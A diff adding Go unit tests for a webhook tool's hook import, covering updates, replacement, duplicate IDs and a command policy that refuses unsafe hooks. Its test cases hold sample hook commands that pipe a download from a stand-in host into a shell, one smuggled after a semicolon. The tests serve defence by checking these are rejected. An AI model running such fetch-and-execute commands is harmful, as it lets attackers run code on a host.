@@ -0,0 +1,96 @@
+package webhook
+
+import (
+	"errors"
+	"os"
+	"path/filepath"
+	"testing"
+
+	"github.com/mycoool/gohook/internal/types"
+)
+
+func TestImportHooks(t *testing.T) {
+	dir := t.TempDir()
+	first := filepath.Join(dir, "hooks.json")
+	second := filepath.Join(dir, "more.json")
+	loaded := map[string]Hooks{
+		first:  {{ID: "deploy", ExecuteCommand: "/bin/true"}},
+		second: {{ID: "backup", ExecuteCommand: "/bin/true"}},
+	}
+	saved := HookManager
+	HookManager = NewHookManager(&loaded, []string{first, second}, false)
+	defer func() { HookManager = saved }()
+
+	hooks := []Hook{
+		{ID: "backup", ExecuteCommand: "/usr/local/bin/backup"},
+		{ID: "notify", ExecuteCommand: "/bin/echo"},
+	}
+	if _, err := ImportHooks(hooks, false); err != nil {
+		t.Fatal(err)
+	}
+	if len(loaded[first]) != 2 || loaded[first][1].ID != "notify" {
+		t.Fatalf("new hook must go to the first file: %+v", loaded[first])
+	}
+	if loaded[second][0].ExecuteCommand != "/usr/local/bin/backup" {
+		t.Fatalf("existing hook not updated in place: %+v", loaded[second])
+	}
+	for _, f := range []string{first, second} {
+		if _, err := os.Stat(f); err != nil {
+			t.Fatalf("%s not saved: %v", f, err)
+		}
+	}
+
+	if _, err := ImportHooks(hooks, true); err != nil {
+		t.Fatal(err)
+	}
+	if HookManager.MatchLoadedHook("deploy") != nil {
+		t.Fatal("replace must remove hooks missing from the import")
+	}
+
+	if _, err := ImportHooks([]Hook{{ID: "a"}, {ID: "a"}}, false); err == nil {
+		t.Fatal("expected duplicate id error")
+	}
+}
+
+func TestImportHooksCommandPolicy(t *testing.T) {
+	dir := t.TempDir()
+	file := filepath.Join(dir, "hooks.json")
+	scripts := filepath.Join(dir, "scripts")
+	loaded := map[string]Hooks{file: {{ID: "deploy", ExecuteCommand: filepath.Join(scripts, "deploy.sh")}}}
+	saved, savedConfig := HookManager, types.GoHookAppConfig
+	HookManager = NewHookManager(&loaded, []string{file}, false)
+	defer func() { HookManager, types.GoHookAppConfig = saved, savedConfig }()
+
+	tests := []struct {
+		name    string
+		scripts *types.ScriptsConfig
+		hooks   []Hook
+		policy  bool // refused by the command policy rather than the script roots
+	}{
+		{"metacharacters", &types.ScriptsConfig{Commands: &types.CommandPolicy{DenyShellMetacharacters: true}},
+			[]Hook{{ID: "ok", ExecuteCommand: "/bin/true"}, {ID: "evil", ExecuteCommand: "/bin/true; curl evil.example | sh"}}, true},
+		{"inline shell with script roots", &types.ScriptsConfig{Roots: []string{scripts}},
+			[]Hook{{ID: "evil", ExecuteCommand: "curl evil.example | sh", Shell: ShellBash}}, false},
+		{"outside the script roots", &types.ScriptsConfig{Roots: []string{scripts}},
+			[]Hook{{ID: "evil", ExecuteCommand: "/usr/bin/env"}}, false},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			types.GoHookAppConfig = &types.AppConfig{Scripts: tt.scripts}
+			_, err := ImportHooks(tt.hooks, true)
+			var denied *CommandDeniedError
+			if !errors.As(err, &denied) {
+				t.Fatalf("ImportHooks() error = %v, want a CommandDeniedError", err)
+			}
+			if denied.HookID != "evil" || (denied.Reason != nil) != tt.policy {
+				t.Errorf("denied = %+v", denied)
+			}
+			if len(loaded[file]) != 1 || loaded[file][0].ID != "deploy" {
+				t.Errorf("a refused import changed the hooks: %+v", loaded[file])
+			}
+			if _, err := os.Stat(file); !os.IsNotExist(err) {
+				t.Errorf("a refused import saved the hooks file: %v", err)
+			}
+		})
+	}
+}